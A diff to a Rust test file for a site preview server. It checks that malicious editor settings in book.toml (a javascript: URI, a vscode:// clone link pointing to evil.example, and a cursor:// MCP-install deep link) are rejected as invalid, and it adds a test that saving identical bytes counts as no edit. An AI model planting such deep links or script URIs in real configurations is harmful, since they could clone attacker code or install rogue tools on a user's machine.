@@ -559,11 +559,18 @@ fn findings_lead_into_the_editor_where_the_file_is_there() {
     let book = String::from_utf8(book).unwrap();
     site.save("book.toml", &format!("{book}[serve]\neditor = \"none\"\n"));
     assert_eq!(site.findings("visit/day/")["edit"], serde_json::Value::Null);
-    let hostile = "[serve]\neditor = \"javascript://%0aalert({file})\"\n";
-    site.save("book.toml", &format!("{book}{hostile}"));
-    let told = site.findings("visit/day/");
-    assert_eq!(told["edit"], format!("{folder}/content/visit/day.md:1:1"));
-    assert_eq!(told["site"]["findings"][0]["rule"], "invalid-field");
+    // A site from somebody else does not choose what an editor does.
+    for hostile in [
+        "javascript://%0aalert({file})",
+        "vscode://vscode.git/clone?url=https://evil.example/x.git&f={file}",
+        "cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=e30&f={file}",
+    ] {
+        let hostile = format!("[serve]\neditor = \"{hostile}\"\n");
+        site.save("book.toml", &format!("{book}{hostile}"));
+        let told = site.findings("visit/day/");
+        assert_eq!(told["edit"], format!("{folder}/content/visit/day.md:1:1"));
+        assert_eq!(told["site"]["findings"][0]["rule"], "invalid-field");
+    }
 
     // A file that is gone cannot be opened.
     site.remove("book.toml");
@@ -571,6 +578,19 @@ fn findings_lead_into_the_editor_where_the_file_is_there() {
     let gone = &told["site"]["findings"][0];
     assert_eq!(gone["file"], "book.toml", "{told}");
     assert_eq!(gone["edit"], serde_json::Value::Null, "{told}");
+}
+
+#[test]
+fn a_file_that_is_touched_and_says_the_same_is_no_edit() {
+    let site = Served::new(SITE);
+    site.save("content/visit/day.md", &day("Another text."));
+    let edits = site.preview.news.edits();
+    site.save("content/visit/day.md", &day("Another text."));
+    assert_eq!(site.preview.news.edits(), edits, "the same bytes");
+    site.save("content/visit/day.md", &day("A third text."));
+    assert_eq!(site.preview.news.edits(), edits + 1);
+    site.save("content/visit/night.md", &day("A page that is new."));
+    assert_eq!(site.preview.news.edits(), edits + 2);
 }
 
 #[test]
